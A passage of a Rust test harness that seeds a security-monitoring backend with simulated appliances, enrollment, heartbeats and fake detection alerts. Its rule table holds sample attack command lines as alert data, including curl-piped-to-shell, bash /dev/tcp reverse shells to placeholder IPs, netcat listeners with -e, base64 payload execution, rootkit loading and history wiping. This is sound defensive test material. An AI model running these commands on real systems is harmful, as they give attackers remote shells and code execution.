//! Seeds a running picket-backend the way a fleet would: simulated
//! appliances enroll over the API (`POST /api/v1/enroll` with one-time
//! tokens an admin creates), then publish signed heartbeats and alert
//! batches over MQTT with mTLS, exactly like picketd's uplink. The browser
//! tests (`backend/ui-tests/run.sh`) use it; it also fills a demo backend.
//!
//! ```text
//! seed fill    --api http://127.0.0.1:8080 --mqtt 127.0.0.1:8883 --user admin \
//!              --password PW --devices 300 --alerts 20000 --state seed.json
//! seed publish --mqtt 127.0.0.1:8883 --state seed.json
//!     then one JSON object per line on stdin:
//!     {"command_line": "...", "level": "high", "rule_title": "..."}
//!     and one line per publish on stdout: {"id": "<alert id>", "sent_ms": ...}
//! ```
//!
//! With `--data-dir` (the backend's data directory), `fill` also installs a
//! fleet root of its own there (`bundle-root.pbroot`, which the backend
//! reads at every push), puts devices into groups, pushes two signed rule
//! bundles over the API and rolls them out: bundle 7 to the `canary` group
//! (completed), then bundle 8 to every device in stages 10/50/100 %. The
//! devices of its first stage take the bundle as an appliance does: retained
//! announcement, `Downloading` acknowledgement, chunks, verification against
//! the root, `Verified` and `Active` (or `Failed` with an error); a few stop
//! after `Downloading` and the quiet ones never answer, so the rollout stays
//! running in its first stage with failed, downloading and pending devices.
//! The bundle-signing key goes into the state file, for:
//!
//! ```text
//! seed push-bundle --api http://127.0.0.1:8080 --password PW --state seed.json \
//!              --version 9 --title 'rule title'
//!     pushes a bundle of three rules, one of them titled as given, and
//!     prints what the API answered (the stored bundle)
//! ```
//!
//! A test harness, so `anyhow` and plain `println!`.
#![allow(
    clippy::print_stdout,
    clippy::too_many_lines,
    clippy::cast_possible_truncation
)]

use std::collections::{BTreeMap, BTreeSet};
use std::future::Future;
use std::io::BufRead as _;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::Arc;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use anyhow::{anyhow, bail, Context as _};
use picket_bundle::{Bundle, RootMetadata, Settings, SignedBundle, SignedRoot, Target, TrustStore};
use picket_proto::ed25519_dalek::{SigningKey, VerifyingKey};
use picket_proto::topic::{self, Channel};
use picket_proto::{
    encode_frame_compressed_to_vec, encode_frame_to_vec, heapless, Alert, AlertBatch, AlertId,
    BoundedStr, BundleAck, BundleState, DeviceId, EnrollRequest, EnrollResponse, Event, Field,
    FileAction, FileEvent, Frame, Heartbeat, IpAddr, Level, Message, ModuleState, ModuleStatus,
    NetworkEvent, ProcessEvent, TechniqueId,
};
use rumqttc::{AsyncClient, Event as MqttEvent, MqttOptions, Packet, QoS, Transport};
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

// ---------------------------------------------------------------- args

#[derive(Debug, Default)]
struct Args {
    mode: String,
    api: String,
    mqtt: String,
    user: String,
    password: String,
    devices: usize,
    alerts: usize,
    state: String,
    db: String,
    data_dir: String,
    version: u64,
    title: String,
}

fn args() -> anyhow::Result<Args> {
    let mut a = Args {
        devices: 300,
        alerts: 20_000,
        user: "admin".into(),
        state: "seed-state.json".into(),
        ..Args::default()
    };
    let mut it = std::env::args().skip(1);
    a.mode = it
        .next()
        .context("mode: fill, publish, push-bundle or fill-db")?;
    while let Some(k) = it.next() {
        let v = it.next().with_context(|| format!("{k} needs a value"))?;
        match k.as_str() {
            "--api" => a.api = v,
            "--mqtt" => a.mqtt = v,
            "--user" => a.user = v,
            "--password" => a.password = v,
            "--devices" => a.devices = v.parse()?,
            "--alerts" => a.alerts = v.parse()?,
            "--state" => a.state = v,
            "--db" => a.db = v,
            "--data-dir" => a.data_dir = v,
            "--version" => a.version = v.parse()?,
            "--title" => a.title = v,
            _ => bail!("unknown option {k}"),
        }
    }
    Ok(a)
}

// ---------------------------------------------------------------- helpers

fn now_ms() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as i64)
}

fn now_unix() -> u64 {
    (now_ms() / 1000) as u64
}

/// splitmix64: deterministic variety without a rand dependency.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

fn unhex(s: &str) -> anyhow::Result<Vec<u8>> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).map_err(Into::into))
        .collect()
}

/// A minimal HTTP/1.1 client over loopback (one request per connection).
async fn http(
    base: &str,
    method: &str,
    path: &str,
    bearer: Option<&str>,
    content_type: &str,
    body: &[u8],
) -> anyhow::Result<(u16, Vec<u8>)> {
    let host = base
        .strip_prefix("http://")
        .context("--api must be http://host:port")?
        .trim_end_matches('/');
    let mut s = tokio::net::TcpStream::connect(host)
        .await
        .with_context(|| format!("connect {host}"))?;
    let mut req = format!(
        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nAccept: */*\r\n\
         Content-Type: {content_type}\r\nContent-Length: {}\r\n",
        body.len()
    );
    if let Some(t) = bearer {
        req.push_str(&format!("Authorization: Bearer {t}\r\n"));
    }
    req.push_str("\r\n");
    s.write_all(req.as_bytes()).await?;
    s.write_all(body).await?;
    let mut buf = Vec::new();
    s.read_to_end(&mut buf).await?;
    let split = buf
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .context("no end of headers")?;
    let head = String::from_utf8_lossy(&buf[..split]).to_string();
    let status: u16 = head
        .split_whitespace()
        .nth(1)
        .context("no status")?
        .parse()?;
    let mut payload = buf[split + 4..].to_vec();
    if head
        .to_ascii_lowercase()
        .contains("transfer-encoding: chunked")
    {
        let mut out = Vec::new();
        let mut rest = &payload[..];
        loop {
            let nl = rest
                .windows(2)
                .position(|w| w == b"\r\n")
                .context("bad chunk")?;
            let n = usize::from_str_radix(std::str::from_utf8(&rest[..nl])?.trim(), 16)?;
            if n == 0 {
                break;
            }
            out.extend_from_slice(&rest[nl + 2..nl + 2 + n]);
            rest = &rest[nl + 2 + n + 2..];
        }
        payload = out;
    }
    Ok((status, payload))
}

async fn json_call(
    base: &str,
    method: &str,
    path: &str,
    bearer: Option<&str>,
    body: &serde_json::Value,
) -> anyhow::Result<serde_json::Value> {
    let (status, b) = http(
        base,
        method,
        path,
        bearer,
        "application/json",
        body.to_string().as_bytes(),
    )
    .await?;
    if !(200..300).contains(&status) {
        bail!(
            "{method} {path}: HTTP {status}: {}",
            String::from_utf8_lossy(&b)
        );
    }
    Ok(serde_json::from_slice(&b)?)
}

// ---------------------------------------------------------------- devices

#[derive(Clone)]
struct Device {
    key: SigningKey,
    id: DeviceId,
    cert: CertificateDer<'static>,
    ca: CertificateDer<'static>,
}

const ED25519_PKCS8_PREFIX: [u8; 16] = [
    0x30, 0x2e, 0x02, 0x01, 0x00, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x04, 0x22, 0x04, 0x20,
];

impl Device {
    fn tls(&self) -> anyhow::Result<Arc<rustls::ClientConfig>> {
        let mut roots = rustls::RootCertStore::empty();
        roots.add(self.ca.clone())?;
        let mut pkcs8 = ED25519_PKCS8_PREFIX.to_vec();
        pkcs8.extend_from_slice(self.key.as_bytes());
        let key = PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(pkcs8));
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        Ok(Arc::new(
            rustls::ClientConfig::builder_with_provider(provider)
                .with_protocol_versions(&[&rustls::version::TLS13])?
                .with_root_certificates(roots)
                .with_client_auth_cert(vec![self.cert.clone()], key)?,
        ))
    }

    fn to_json(&self) -> serde_json::Value {
        serde_json::json!({
            "key": hex(self.key.as_bytes()),
            "cert": hex(&self.cert),
            "ca": hex(&self.ca),
        })
    }

    fn from_json(v: &serde_json::Value) -> anyhow::Result<Self> {
        let field = |k: &str| -> anyhow::Result<Vec<u8>> {
            unhex(v[k].as_str().with_context(|| format!("state: no {k}"))?)
        };
        let seed: [u8; 32] = field("key")?
            .try_into()
            .map_err(|_| anyhow!("state: bad key"))?;
        let key = SigningKey::from_bytes(&seed);
        Ok(Self {
            id: DeviceId::from_public_key(&key.verifying_key()),
            key,
            cert: CertificateDer::from(field("cert")?),
            ca: CertificateDer::from(field("ca")?),
        })
    }

    /// Connects over mTLS.
    async fn connect(&self, addr: SocketAddr) -> anyhow::Result<Conn> {
        let mut o = MqttOptions::new(
            format!("dev-{}", self.id),
            addr.ip().to_string(),
            addr.port(),
        );
        o.set_keep_alive(Duration::from_secs(60))
            .set_max_packet_size(1 << 20, 1 << 20)
            .set_inflight(32)
            .set_clean_session(true)
            .set_transport(Transport::tls_with_config(
                rumqttc::TlsConfiguration::Rustls(self.tls()?),
            ));
        let (client, mut ev) = AsyncClient::new(o, 64);
        let (acks, rx) = tokio::sync::mpsc::unbounded_channel();
        let (down_tx, down_rx) = tokio::sync::mpsc::unbounded_channel();
        let (conn_tx, conn_rx) = tokio::sync::oneshot::channel::<anyhow::Result<()>>();
        let task = tokio::spawn(async move {
            let mut conn_tx = Some(conn_tx);
            loop {
                match ev.poll().await {
                    Ok(MqttEvent::Incoming(Packet::ConnAck(_))) => {
                        if let Some(tx) = conn_tx.take() {
                            let _ = tx.send(Ok(()));
                        }
                    }
                    Ok(MqttEvent::Incoming(Packet::PubAck(_))) => {
                        if acks.send(()).is_err() {
                            return;
                        }
                    }
                    Ok(MqttEvent::Incoming(Packet::Publish(p))) => {
                        // Nobody listens unless the caller wants the downlink.
                        let _ = down_tx.send(p);
                    }
                    Ok(_) => {}
                    Err(e) => {
                        if let Some(tx) = conn_tx.take() {
                            let _ = tx.send(Err(anyhow!("mqtt: {e}")));
                            return;
                        }
                        tokio::time::sleep(Duration::from_millis(200)).await;
                    }
                }
            }
        });
        tokio::time::timeout(Duration::from_secs(15), conn_rx)
            .await
            .context("mqtt connect timed out")??
            .context("mqtt connect")?;
        Ok(Conn {
            client,
            acks: rx,
            downlink: down_rx,
            task,
        })
    }
}

/// A simulated device's MQTT connection: the client, a PUBACK counter and
/// what the backend publishes to the device.
struct Conn {
    client: AsyncClient,
    acks: tokio::sync::mpsc::UnboundedReceiver<()>,
    downlink: tokio::sync::mpsc::UnboundedReceiver<rumqttc::Publish>,
    task: tokio::task::JoinHandle<()>,
}

impl Conn {
    /// Closes the connection without an MQTT DISCONNECT. rumqttd 0.20 takes
    /// a DISCONNECT and then the end of the socket as two disconnections of
    /// the connection id (`handle_disconnection` in router/routing.rs), and
    /// a new connection that got the freed id in between is dropped by the
    /// second; with devices connecting one after the other that happened
    /// often enough to lose a PUBACK for good. The socket's end alone is one.
    /// Stopping the task also keeps the event loop from connecting again.
    fn close(self) {
        self.task.abort();
    }
}

/// A one-time enrollment token for `hostname`.
async fn enrollment_token(api: &str, bearer: &str, hostname: &str) -> anyhow::Result<String> {
    let tok = json_call(
        api,
        "POST",
        "/api/v1/enrollment-tokens",
        Some(bearer),
        &serde_json::json!({ "label": format!("seed {hostname}"), "ttl_secs": 3600 }),
    )
    .await?;
    Ok(tok["token"].as_str().context("no token")?.to_owned())
}

/// Enrolls an endpoint agent (`POST /api/v1/agents/enroll`) and returns
/// `{"id", "hostname", "platform"}`.
async fn enroll_agent(
    api: &str,
    bearer: &str,
    hostname: &str,
    platform: &str,
) -> anyhow::Result<serde_json::Value> {
    let token = enrollment_token(api, bearer, hostname).await?;
    let enrolled = json_call(
        api,
        "POST",
        "/api/v1/agents/enroll",
        None,
        &serde_json::json!({
            "token": token, "hostname": hostname, "platform": platform, "agent_version": "1.4.0",
        }),
    )
    .await?;
    let id = enrolled["device_id"]
        .as_str()
        .with_context(|| format!("agent {hostname}: no device id in {enrolled}"))?;
    Ok(serde_json::json!({ "id": id, "hostname": hostname, "platform": platform }))
}

async fn enroll(
    api: &str,
    bearer: &str,
    command_key: &VerifyingKey,
    seed: [u8; 32],
    hostname: &str,
    version: &str,
) -> anyhow::Result<Device> {
    let key = SigningKey::from_bytes(&seed);
    let id = DeviceId::from_public_key(&key.verifying_key());
    let token = enrollment_token(api, bearer, hostname).await?;
    let request = Message::EnrollRequest(EnrollRequest {
        token: BoundedStr::new(&token)?,
        public_key: key.verifying_key().to_bytes(),
        csr_der: None,
        hostname: BoundedStr::new(hostname)?,
        agent_version: BoundedStr::new(version)?,
    });
    let frame = encode_frame_to_vec(&request, id, &key)?;
    let (status, body) = http(
        api,
        "POST",
        "/api/v1/enroll",
        None,
        "application/octet-stream",
        &frame,
    )
    .await?;
    if status != 200 {
        bail!("enroll {hostname}: HTTP {status}");
    }
    let opened = Frame::decode_exact(&body)?.open(command_key)?;
    let Message::EnrollResponse(EnrollResponse::Accepted {
        certificate_der,
        ca_certificate_der,
    }) = opened
    else {
        bail!("enrollment of {hostname} refused: {opened:?}");
    };
    Ok(Device {
        key,
        id,
        cert: CertificateDer::from(certificate_der.as_bytes().to_vec()),
        ca: CertificateDer::from(ca_certificate_der.as_bytes().to_vec()),
    })
}

// ---------------------------------------------------------------- content

struct RuleDef {
    id: &'static str,
    title: &'static str,
    level: Level,
    techniques: &'static [(u16, u16)],
    author: &'static str,
    kind: Kind,
    weight: u64,
}

#[derive(Clone, Copy)]
enum Kind {
    Proc(
        &'static [(&'static str, &'static str)],
        &'static [&'static str],
    ),
    File(FileAction, &'static [&'static str], &'static [&'static str]),
    Net(
        &'static [(&'static str, [u8; 4], u16)],
        &'static [&'static str],
    ),
}

const SHELLS: &[&str] = &[
    "/usr/sbin/sshd",
    "/usr/bin/bash",
    "/usr/sbin/cron",
    "/usr/lib/systemd/systemd",
    "/usr/bin/python3.11",
    "/usr/sbin/lighttpd",
];

const RULES: &[RuleDef] = &[
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e01",
        title: "Download piped to shell",
        level: Level::High,
        techniques: &[(1059, 4), (1105, 0)],
        author: "Picket detection team",
        weight: 14,
        kind: Kind::Proc(
            &[
                (
                    "/usr/bin/bash",
                    "bash -c curl -fsSL http://203.0.113.7/i.sh | sh",
                ),
                ("/usr/bin/sh", "sh -c wget -qO- http://198.51.100.23/x | sh"),
                (
                    "/usr/bin/bash",
                    "bash -c curl -s https://paste.example.net/raw/a8f3 | bash -s -- --quiet",
                ),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e02",
        title: "Reverse shell through /dev/tcp",
        level: Level::Critical,
        techniques: &[(1059, 4), (1071, 1)],
        author: "A. Example (example.org)",
        weight: 3,
        kind: Kind::Proc(
            &[
                (
                    "/usr/bin/bash",
                    "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",
                ),
                (
                    "/usr/bin/bash",
                    "/bin/bash -c 'exec 5<>/dev/tcp/198.51.100.9/443; cat <&5 | bash >&5'",
                ),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e03",
        title: "Crontab modified",
        level: Level::Medium,
        techniques: &[(1053, 3)],
        author: "Picket detection team",
        weight: 8,
        kind: Kind::File(
            FileAction::Write,
            &[
                "/etc/crontab",
                "/var/spool/cron/crontabs/root",
                "/etc/cron.d/sysupdate",
            ],
            &["/usr/bin/crontab", "/usr/bin/vi", "/usr/bin/bash"],
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e04",
        title: "SSH authorized_keys modified",
        level: Level::High,
        techniques: &[(1098, 4)],
        author: "B. Sample",
        weight: 5,
        kind: Kind::File(
            FileAction::Write,
            &[
                "/root/.ssh/authorized_keys",
                "/home/admin/.ssh/authorized_keys",
            ],
            &["/usr/bin/bash", "/usr/bin/tee", "/usr/bin/python3.11"],
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e05",
        title: "Shadow file read by unusual process",
        level: Level::High,
        techniques: &[(1003, 8)],
        author: "Picket detection team",
        weight: 4,
        kind: Kind::File(
            FileAction::Read,
            &["/etc/shadow", "/etc/gshadow"],
            &["/usr/bin/cat", "/usr/bin/python3.11", "/tmp/.x/kworker"],
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e06",
        title: "Connection to a mining pool port",
        level: Level::High,
        techniques: &[(1496, 1), (1571, 0)],
        author: "C. Placeholder",
        weight: 6,
        kind: Kind::Net(
            &[
                ("pool.example.net", [198, 51, 100, 77], 3333),
                ("xmr.example.com", [203, 0, 113, 91], 5555),
                ("stratum.example.org", [192, 0, 2, 44], 14444),
            ],
            &[
                "/tmp/.x/kworker",
                "/dev/shm/xmrig",
                "/var/tmp/systemd-update",
            ],
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e07",
        title: "Base64 payload decoded and executed",
        level: Level::Medium,
        techniques: &[(1140, 0), (1059, 4), (1027, 0)],
        author: "Picket detection team",
        weight: 6,
        kind: Kind::Proc(
            &[
                (
                    "/usr/bin/bash",
                    "bash -c echo ZWNobyBoZWxsbyB3b3JsZAo= | base64 -d | bash",
                ),
                (
                    "/usr/bin/python3.11",
                    "python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9z'))",
                ),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e08",
        title: "System discovery commands",
        level: Level::Low,
        techniques: &[(1082, 0), (1016, 0), (1033, 0)],
        author: "D. Demo",
        weight: 20,
        kind: Kind::Proc(
            &[
                ("/usr/bin/uname", "uname -a"),
                ("/usr/sbin/ip", "ip addr show"),
                ("/usr/bin/id", "id"),
                ("/usr/bin/cat", "cat /etc/os-release"),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e09",
        title: "Kernel module loaded",
        level: Level::Medium,
        techniques: &[(1547, 6)],
        author: "Picket detection team",
        weight: 3,
        kind: Kind::Proc(
            &[
                ("/usr/sbin/insmod", "insmod /tmp/diamorphine.ko"),
                ("/usr/sbin/modprobe", "modprobe -f hid_rootkit"),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e10",
        title: "Shell history cleared",
        level: Level::Medium,
        techniques: &[(1070, 3)],
        author: "B. Sample",
        weight: 5,
        kind: Kind::Proc(
            &[
                (
                    "/usr/bin/bash",
                    "bash -c history -c && rm -f ~/.bash_history",
                ),
                ("/usr/bin/ln", "ln -sf /dev/null /root/.bash_history"),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e11",
        title: "Netcat listener started",
        level: Level::Medium,
        techniques: &[(1095, 0), (1059, 4)],
        author: "D. Demo",
        weight: 4,
        kind: Kind::Proc(
            &[
                ("/usr/bin/nc", "nc -lvnp 4444 -e /bin/sh"),
                (
                    "/usr/bin/ncat",
                    "ncat --listen 0.0.0.0 9001 --exec /bin/bash",
                ),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e12",
        title: "SUID bit set on a file",
        level: Level::High,
        techniques: &[(1548, 1)],
        author: "Picket detection team",
        weight: 3,
        kind: Kind::File(
            FileAction::Chmod,
            &[
                "/tmp/.x/sh",
                "/var/tmp/dbus-helper",
                "/usr/local/bin/backup",
            ],
            &["/usr/bin/chmod"],
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e13",
        title: "Firewall rules flushed",
        level: Level::High,
        techniques: &[(1562, 4)],
        author: "C. Placeholder",
        weight: 3,
        kind: Kind::Proc(
            &[
                ("/usr/sbin/iptables", "iptables -F"),
                ("/usr/sbin/nft", "nft flush ruleset"),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e14",
        title: "Local account created",
        level: Level::Medium,
        techniques: &[(1136, 1)],
        author: "A. Example (example.org)",
        weight: 3,
        kind: Kind::Proc(
            &[
                (
                    "/usr/sbin/useradd",
                    "useradd -M -s /bin/bash -G sudo support",
                ),
                ("/usr/sbin/adduser", "adduser --disabled-password backup2"),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e15",
        title: "Execution from a world-writable directory",
        level: Level::Low,
        techniques: &[(1036, 5)],
        author: "Picket detection team",
        weight: 10,
        kind: Kind::Proc(
            &[
                ("/tmp/.x/kworker", "/tmp/.x/kworker -c /tmp/.x/config.json"),
                ("/dev/shm/upd", "/dev/shm/upd --daemon"),
            ],
            SHELLS,
        ),
    },
    RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4e16",
        title: "DNS resolver configuration changed",
        level: Level::Informational,
        techniques: &[(1565, 1)],
        author: "D. Demo",
        weight: 6,
        kind: Kind::File(
            FileAction::Write,
            &["/etc/resolv.conf", "/etc/hosts"],
            &[
                "/usr/sbin/dhclient",
                "/usr/bin/vi",
                "/usr/lib/systemd/systemd-resolved",
            ],
        ),
    },
];

const SITES: &[&str] = &[
    "berlin", "hamburg", "munich", "paris", "lyon", "madrid", "lisbon", "oslo", "warsaw", "vienna",
    "zurich", "milan", "prague", "dublin", "leeds",
];
const ROLES: &[&str] = &["gw", "edge", "fw", "vpn", "branch"];
const VERSIONS: &[&str] = &["0.1.0", "0.1.1", "0.2.0", "0.2.0", "0.2.0"];

fn level_name(l: Level) -> &'static str {
    match l {
        Level::Informational => "informational",
        Level::Low => "low",
        Level::Medium => "medium",
        Level::High => "high",
        Level::Critical => "critical",
    }
}

fn parse_level(s: &str) -> Level {
    match s {
        "informational" => Level::Informational,
        "low" => Level::Low,
        "medium" => Level::Medium,
        "critical" => Level::Critical,
        _ => Level::High,
    }
}

fn alert_id(id: DeviceId, seq: u64) -> AlertId {
    let mut b = [0u8; 16];
    b[..8].copy_from_slice(&id.0[..8]);
    b[8..].copy_from_slice(&seq.to_be_bytes());
    AlertId(b)
}

/// Owned strings an alert borrows from while it is encoded.
struct Spec {
    seq: u64,
    ts: u64,
    rule: &'static RuleDef,
    image: String,
    command_line: String,
    parent: &'static str,
    pick: u64,
}

fn techniques(r: &RuleDef) -> heapless::Vec<TechniqueId, 8> {
    r.techniques
        .iter()
        .filter_map(|&(t, s)| TechniqueId::new(t, s).ok())
        .collect()
}

fn author_field(author: &str) -> heapless::Vec<Field<'_>, 16> {
    let mut v = heapless::Vec::new();
    if let (Ok(key), Ok(value)) = (BoundedStr::new("rule_author"), BoundedStr::new(author)) {
        let _ = v.push(Field { key, value });
    }
    v
}

fn to_alert(dev: DeviceId, s: &Spec) -> Alert<'_> {
    let r = s.rule;
    let event = match r.kind {
        Kind::Proc(..) => Event::Process(ProcessEvent {
            pid: 1000 + (s.pick % 30_000) as u32,
            ppid: 400 + (s.pick % 600) as u32,
            uid: if s.pick.is_multiple_of(3) { 1000 } else { 0 },
            gid: 0,
            image: BoundedStr::truncated(&s.image),
            command_line: BoundedStr::truncated(&s.command_line),
            parent_image: Some(BoundedStr::truncated(s.parent)),
            parent_command_line: Some(BoundedStr::truncated(s.parent)),
            cwd: Some(BoundedStr::truncated(if s.pick.is_multiple_of(2) {
                "/root"
            } else {
                "/tmp"
            })),
            user: Some(BoundedStr::truncated(if s.pick.is_multiple_of(3) {
                "admin"
            } else {
                "root"
            })),
            extra: author_field(r.author),
        }),
        Kind::File(action, _, _) => Event::File(FileEvent {
            pid: 1000 + (s.pick % 30_000) as u32,
            uid: 0,
            image: BoundedStr::truncated(&s.image),
            action,
            path: BoundedStr::truncated(&s.command_line),
            target_path: None,
            extra: author_field(r.author),
        }),
        Kind::Net(targets, _) => {
            let (host, ip, port) = targets[(s.pick % targets.len() as u64) as usize];
            Event::Network(NetworkEvent {
                pid: 1000 + (s.pick % 30_000) as u32,
                uid: 0,
                image: BoundedStr::truncated(&s.image),
                transport: picket_proto::Transport::Tcp,
                direction: picket_proto::Direction::Outbound,
                src_ip: IpAddr::V4([10, (s.pick % 250) as u8, 0, 2]),
                src_port: 40_000 + (s.pick % 20_000) as u16,
                dst_ip: IpAddr::V4(ip),
                dst_port: port,
                dst_host: Some(BoundedStr::truncated(host)),
                extra: author_field(r.author),
            })
        }
    };
    Alert {
        id: alert_id(dev, s.seq),
        seq: s.seq,
        timestamp_ms: s.ts,
        level: r.level,
        rule_id: BoundedStr::truncated(r.id),
        rule_title: BoundedStr::truncated(r.title),
        techniques: techniques(r),
        event,
    }
}

fn spec(rng: &mut Rng, seq: u64, ts: u64) -> Spec {
    let total: u64 = RULES.iter().map(|r| r.weight).sum();
    let mut x = rng.below(total);
    let rule = RULES
        .iter()
        .find(|r| {
            if x < r.weight {
                true
            } else {
                x -= r.weight;
                false
            }
        })
        .unwrap_or(&RULES[0]);
    let pick = rng.next();
    let (image, command_line, parent) = match rule.kind {
        Kind::Proc(cmds, parents) => {
            let (img, cmd) = rng.pick(cmds);
            ((*img).to_owned(), (*cmd).to_owned(), *rng.pick(parents))
        }
        Kind::File(_, paths, images) => (
            (*rng.pick(images)).to_owned(),
            (*rng.pick(paths)).to_owned(),
            "",
        ),
        Kind::Net(_, images) => ((*rng.pick(images)).to_owned(), String::new(), ""),
    };
    Spec {
        seq,
        ts,
        rule,
        image,
        command_line,
        parent,
        pick,
    }
}

fn batch_frame(dev: &Device, specs: &[Spec]) -> anyhow::Result<Vec<u8>> {
    let alerts: Vec<Alert<'_>> = specs.iter().map(|s| to_alert(dev.id, s)).collect();
    let batch = AlertBatch::new(&alerts).map_err(|e| anyhow!("batch: {e:?}"))?;
    let frame = encode_frame_compressed_to_vec(&Message::AlertBatch(batch), dev.id, &dev.key, 6)
        .map_err(|e| anyhow!("encode: {e:?}"))?;
    Ok(frame)
}

/// A heartbeat; `bundle`: the rule bundle it runs (else one of 3..=6, as
/// installed with the image).
fn heartbeat_frame(
    dev: &Device,
    rng: &mut Rng,
    version: &str,
    bundle: Option<u64>,
) -> anyhow::Result<Vec<u8>> {
    let degraded = rng.chance(8);
    let mut modules = heapless::Vec::new();
    for (name, state) in [
        ("process", ModuleState::Running),
        ("file", ModuleState::Running),
        (
            "network",
            if degraded {
                ModuleState::Degraded
            } else {
                ModuleState::Running
            },
        ),
        ("dns", ModuleState::Disabled),
    ] {
        let _ = modules.push(ModuleStatus {
            name: BoundedStr::new(name)?,
            state,
            error: (state == ModuleState::Degraded)
                .then(|| BoundedStr::truncated("ring buffer full: 312 records lost in 60 s")),
        });
    }
    let hb = Message::Heartbeat(Heartbeat {
        seq: 1,
        sent_at_ms: now_ms() as u64,
        uptime_secs: 3600 + rng.below(40 * 86_400),
        agent_version: BoundedStr::new(version)?,
        protocol_version: picket_proto::PROTOCOL_VERSION,
        rule_bundle_version: Some(bundle.unwrap_or_else(|| 3 + rng.below(4))),
        spool_depth: if rng.chance(10) { rng.below(5000) } else { 0 },
        spool_bytes: rng.below(4 << 20),
        spool_evictions_total: if rng.chance(5) { rng.below(900) } else { 0 },
        lost_kernel_records_total: if degraded { 312 + rng.below(5000) } else { 0 },
        modules,
        cpu_permille: 5 + rng.below(120) as u32,
        rss_bytes: (18 << 20) + rng.below(30 << 20),
    });
    Ok(encode_frame_to_vec(&hb, dev.id, &dev.key)?)
}

async fn wait_acks(
    rx: &mut tokio::sync::mpsc::UnboundedReceiver<()>,
    n: usize,
) -> anyhow::Result<()> {
    for _ in 0..n {
        tokio::time::timeout(Duration::from_secs(30), rx.recv())
            .await
            .context("timed out waiting for PUBACK")?
            .context("mqtt loop ended")?;
    }
    Ok(())
}

// ---------------------------------------------------------------- modes

/// Devices publishing at once.
const PARALLEL: usize = 8;
/// Publishing rounds per device before giving up on the backend.
const ROUNDS: usize = 12;

/// How many alerts of `device` the backend has stored.
async fn stored_for(api: &str, bearer: &str, device: &str) -> anyhow::Result<usize> {
    let (status, body) = http(
        api,
        "GET",
        &format!("/api/v1/alerts/counts?device={device}&bucket=31d"),
        Some(bearer),
        "application/json",
        b"",
    )
    .await?;
    if status != 200 {
        bail!("counts: HTTP {status}: {}", String::from_utf8_lossy(&body));
    }
    let v: serde_json::Value = serde_json::from_slice(&body)?;
    Ok(v["buckets"].as_array().map_or(0, |b| {
        b.iter().filter_map(|x| x["count"].as_u64()).sum::<u64>()
    }) as usize)
}

async fn fill(a: Args) -> anyhow::Result<()> {
    let t0 = std::time::Instant::now();
    let mqtt: SocketAddr = a.mqtt.parse().context("--mqtt host:port")?;
    // Before anything else: an existing root is refused, and better now.
    let fleet = if a.data_dir.is_empty() {
        None
    } else {
        Some(FleetKeys::install(&a.data_dir)?)
    };
    let login = json_call(
        &a.api,
        "POST",
        "/api/v1/auth/login",
        None,
        &serde_json::json!({ "name": a.user, "password": a.password }),
    )
    .await?;
    let bearer = login["token"].as_str().context("no token")?.to_owned();
    let (_, ck) = http(
        &a.api,
        "GET",
        "/api/v1/fleet/command-key",
        None,
        "text/plain",
        b"",
    )
    .await?;
    let ck: [u8; 32] = unhex(String::from_utf8(ck)?.trim())?
        .try_into()
